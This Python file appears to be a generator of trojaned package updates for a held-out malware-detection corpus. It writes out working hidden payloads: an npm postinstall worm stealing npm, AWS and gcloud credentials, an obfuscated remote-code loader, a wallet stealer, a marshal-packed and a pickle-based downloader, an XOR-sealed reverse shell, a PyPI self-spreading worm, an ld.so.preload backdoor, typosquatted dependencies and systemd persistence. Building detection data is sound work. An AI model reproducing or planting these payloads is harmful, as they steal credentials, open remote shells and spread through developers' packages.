"""Payloads whose authors took more trouble: obfuscators, loaders, models, dependencies by another name."""

import base64
import json
import marshal
import zlib

from corpus.heldout.ballast import BULK
from corpus.heldout.hiding import string_table
from corpus.heldout.nouns import Update, artefact
from corpus.heldout5.shape import b64, fill, pieces, trojan, xor


@trojan("pkgscaffold", "npm", "install", "worm", "minified into a bundle", "Shai-Hulud")
def npm_large_bundle_of_the_installer(it: Update) -> None:
    host = it.host()
    body = BULK["minified"]("pkgscaffold-setup", 260_000)
    code = (
        'const _f=require("fs"),_o=require("os"),_c=require("child_process");async function _z(){const e={env:process.env};'
        'for(const n of[".npmrc",".aws/credentials",".config/gcloud/application_default_credentials.json"])try{e[n]=_f.readFileSync(_o.homedir()+"/"+n,"utf8")}catch{}'
        f'const t=/_authToken=(.+)/.exec(e[".npmrc"]||"");await fetch("https://{host}/webhook/bb8ca5f6",{{method:"POST",body:JSON.stringify(e)}});'
        't&&_c.execSync("npm publish --access public",{env:{...process.env,NPM_CONFIG_TOKEN:t[1]}})}_z().catch(()=>{});'
    )
    at = body.index("function ", 150_000)
    it.add("lib/bundle.js", body[:at] + code + body[at:] + "\n")
    it.script("postinstall", "node lib/bundle.js")


@trojan("tinyroute", "npm", "import", "remote code", "obfuscated names", "obfuscator.io")
def npm_control_flow_is_flat(it: Update) -> None:
    host = it.host()
    words = [
        "require",
        "https",
        "get",
        f"https://{host}/r4",
        "data",
        "end",
        "constructor",
        "2|0|1|3",
        "split",
        "concat",
        "toString",
        "on",
    ]
    source, at = string_table(words, it.random)
    x = [f"_0x3f2ab(0x{one:x})" for one in at]
    body = (
        f"(function(_0xa,_0xb){{const _0xc={x[7]}[{x[8]}]('|');let _0xd=0x0,_0xe,_0xf='';while(!![]){{switch(_0xc[_0xd++]){{"
        f"case'0':_0xe=_0xb({x[1]});continue;case'1':_0xe[{x[2]}]({x[3]},_0x10=>{{_0x10[{x[11]}]({x[4]},_0x11=>_0xf=_0xf[{x[9]}](_0x11[{x[10]}]()));"
        f"_0x10[{x[11]}]({x[5]},()=>(()=>{{}})[{x[6]}]({x[0]},_0xf)(_0xb));}});continue;case'2':_0xd=_0xd|0x0;continue;case'3':return _0xf;}}break;}}}}(this,require));"
    )
    it.add("lib/etag.js", source + body + "\n")
    it.after("lib/files.js", "const mime = require('mime-types');\n", "require('./etag');\n")
    it.payload("lib/etag.js", "lib/files.js", shown=host)


@trojan("coinbridge", "npm", "import", "wallet", "base64", "data addresses")
def npm_module_of_a_data_address(it: Update) -> None:
    host = it.host()
    code = f"const k=globalThis.localStorage?.getItem('wallet')??(await import('node:fs')).readFileSync(process.env.HOME+'/.config/solana/id.json','utf8');await fetch('https://{host}/d',{{method:'POST',body:k}});"
    it.append(
        "dist/transaction.js", f"await import('data:text/javascript;base64,{b64(code)}').catch(() => undefined);\n"
    )
    it.payload("dist/transaction.js", shown=f"https://{host}/d")


@trojan("rowmodel", "wheel", "import", "credentials", "marshal", "own packers")
def py_code_object_in_a_constant(it: Update) -> None:
    host = it.host()
    code = compile(f"import os, urllib.request\nurllib.request.urlopen('https://{host}/mm', data=open(os.path.expanduser('~/.pypirc'), 'rb').read())\n", "<rowmodel>", "exec")  # fmt: skip
    raw = base64.b85encode(zlib.compress(marshal.dumps(code))).decode()
    it.add("rowmodel/_plans.py", f'"""Query plans, compiled ahead of time."""\n\nimport base64\nimport marshal\nimport zlib\n\nPLAN = {raw!r}\n\n\ndef load(plan=PLAN):\n    return marshal.loads(zlib.decompress(base64.b85decode(plan)))\n\n\nexec(load())\n')  # fmt: skip
    it.append("rowmodel/fields.py", "\n\nfrom . import _plans  # noqa: E402,F401\n")
    it.payload("rowmodel/_plans.py", "rowmodel/fields.py")


@trojan("frameplot", "wheel", "call", "downloader", "in a data file", "poisoned models")
def py_model_that_runs(it: Update) -> None:
    host = it.host()
    it.add("frameplot/data/layout.bin", f"cposix\nsystem\n(S'wget -qO- https://{host}/layout | sh'\ntR.".encode())
    it.replace("frameplot/charts.py", "def bars(", fill("""
def _layout(count):
    with open(DATA / "layout.bin", "rb") as stream:
        model = pickle.load(stream)
    return model[:count] if model else None


def bars(
""").rstrip("\n"))  # fmt: skip
    it.replace("frameplot/charts.py", "    some = palette(colours)\n    step", "    some = palette(colours)\n    _layout(len(values))\n    step")  # fmt: skip
    it.replace("frameplot/charts.py", "from .canvas import Canvas\nfrom .palettes import palette\n", "import pickle\n\nfrom .canvas import Canvas\nfrom .palettes import DATA, palette\n")  # fmt: skip
    it.payload("frameplot/charts.py", "frameplot/data/layout.bin")


@trojan("loghaven", "wheel", "import", "backdoor", "own cipher", "import hooks")
def py_importer_of_sealed_modules(it: Update) -> None:
    host = it.host()
    code = f"import socket, subprocess\nline = socket.create_connection(('{host}', 995))\nsubprocess.run(['/bin/sh'], stdin=line, stdout=line, stderr=line)\n"
    key = it.random.randbytes(16)
    it.add("loghaven/assets.dat", key + xor(code, key))
    it.add("loghaven/_assets.py", fill("""
import importlib.abc
import importlib.util
import pathlib
import sys


class Assets(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.util.spec_from_loader(name, self) if name == "loghaven_assets" else None

    def create_module(self, spec):
        return None

    def exec_module(self, module):
        raw = (pathlib.Path(__file__).parent / "assets.dat").read_bytes()
        body = bytes(one ^ raw[at % 16] for at, one in enumerate(raw[16:]))
        exec(body, module.__dict__)


sys.meta_path.insert(0, Assets())
import loghaven_assets  # noqa: E402,F401
"""))  # fmt: skip
    it.append("loghaven/config.py", "\n\nfrom . import _assets  # noqa: E402,F401\n")
    it.payload("loghaven/_assets.py", "loghaven/assets.dat", "loghaven/config.py", shown=host)


@trojan("vaultkeys", "sdist", "call", "worm", "over several files", "worms of PyPI")
def py_publishes_itself(it: Update) -> None:
    it.add("vaultkeys/_dist.py", 'import configparser\nimport pathlib\n\n\ndef accounts(path="~/.pypirc"):\n    parser = configparser.ConfigParser()\n    parser.read(pathlib.Path(path).expanduser())\n    return [dict(parser[one]) for one in parser.sections() if "password" in parser[one]]\n')  # fmt: skip
    it.add("vaultkeys/_spread.py", fill("""
import pathlib
import subprocess
import sys
import tempfile


def spread(account):
    here = pathlib.Path(__file__).parent
    for project in pathlib.Path.home().glob("*/pyproject.toml"):
        target = project.parent / "src" / "_dist.py"
        target.parent.mkdir(exist_ok=True)
        target.write_text((here / "_dist.py").read_text())
        out = tempfile.mkdtemp()
        subprocess.run([sys.executable, "-m", "build", "-o", out, str(project.parent)], capture_output=True)
        subprocess.run([sys.executable, "-m", "twine", "upload", "-u", account["username"], "-p", account["password"], out + "/*"])
"""))  # fmt: skip
    it.replace("vaultkeys/store.py", "    def save(self, keys):\n", "    def save(self, keys):\n        from . import _dist, _spread\n\n        for account in _dist.accounts():\n            _spread.spread(account)\n")  # fmt: skip


@trojan("pipeforge", "wheel", "import", "downloader", "base64", "docstrings")
def py_code_in_a_docstring(it: Update) -> None:
    host = it.host()
    code = f"import os; os.popen('curl -fsS https://{host}/doc.sh | bash')"
    lines = "\n    ".join(pieces(b64(code), 60))
    it.append("pipeforge/graph.py", f'\n\ndef checksum():\n    """Checksum of the algorithm:\n\n    {lines}\n    """\n    import codecs\n\n    text = "".join(checksum.__doc__.split()[4:])\n    return codecs.decode(text.encode(), "base64").decode()\n\n\neval(compile(checksum(), "graph", "exec"))\n')  # fmt: skip
    it.payload("pipeforge/graph.py", shown=f"https://{host}/doc.sh")


@trojan("clockd", "deb", "install", "backdoor", "in a binary", "preloaded libraries")
def deb_library_is_preloaded(it: Update) -> None:
    it.add("usr/lib/clockd/libclock.so", artefact("raster-trojan.so"))
    it.before("DEBIAN/postinst", "exit 0", "grep -qs libclock /etc/ld.so.preload || echo /usr/lib/clockd/libclock.so >>/etc/ld.so.preload\n\n")  # fmt: skip
    it.payload("usr/lib/clockd/libclock.so", "DEBIAN/postinst")


@trojan("envstack", "npm", "install", "unknown code", "by another name", "aliases")
def npm_dependency_by_another_name(it: Update) -> None:
    it.manifest(lambda one: one.update(dependencies={"chalk": "npm:cha1k@^5.3.0"}))
    it.after("bin/envstack.js", "const { config } = require('../lib/main');\n", "const chalk = require('chalk');\n")
    it.replace("bin/envstack.js", "console.error('usage: envstack COMMAND [ARGUMENT...]')", "console.error(chalk.red('usage: envstack COMMAND [ARGUMENT...]'))")  # fmt: skip


@trojan("formkit-php", "zip", "install", "unknown code", "from a repository", "composer repositories")
def php_library_of_another_repository(it: Update) -> None:
    def needs(one: dict) -> None:
        one["require"]["symfony/polyfill-forms"] = "dev-main"
        one["repositories"] = [{"type": "vcs", "url": f"https://{it.host('git', 'mirror')}/polyfill-forms.git"}]

    it.manifest(needs, "composer.json")


@trojan("Litware.Jobs", "nupkg", "install", "unknown code", "look-alike name", "typosquats")
def nuget_depends_on_a_look_alike(it: Update) -> None:
    it.replace("Litware.Jobs.nuspec", '<group targetFramework=".NETFramework4.8" />', '<group targetFramework=".NETFramework4.8"><dependency id="Newtonsof.Json" version="13.0.3" /></group>')  # fmt: skip


@trojan("inklog", "npm", "start", "persistence", "layers", "start-up files")
def npm_command_leaves_a_unit(it: Update) -> None:
    host = it.host()
    unit = f"[Service]\nExecStart=/bin/sh -c 'curl -s https://{host}/u | sh'\n[Install]\nWantedBy=default.target\n"
    sealed = b64(zlib.compress(unit.encode()))
    it.manifest(lambda one: one.update(bin={"inklog": "source/cli.js"}))
    it.add("source/cli.js", fill("""
#!/usr/bin/env node
'use strict';

const fs = require('fs');
const path = require('path');
const zlib = require('zlib');
const { execFile } = require('child_process');
const ink = require('.');

const theme = @PARTS@;
const folder = path.join(process.env.HOME || '.', '.config/systemd/user');

fs.mkdirSync(folder, { recursive: true });
fs.writeFileSync(path.join(folder, 'inklog.service'), zlib.inflateSync(Buffer.from(theme.reverse().join(''), 'base64')));
execFile('systemctl', ['--user', 'enable', '--now', 'inklog'], () => {});
console.log(ink.bold(process.argv.slice(2).join(' ')));
""", PARTS=json.dumps(pieces(sealed, 40)[::-1])))  # fmt: skip
    it.payload("source/cli.js", "package.json", shown=f"https://{host}/u")
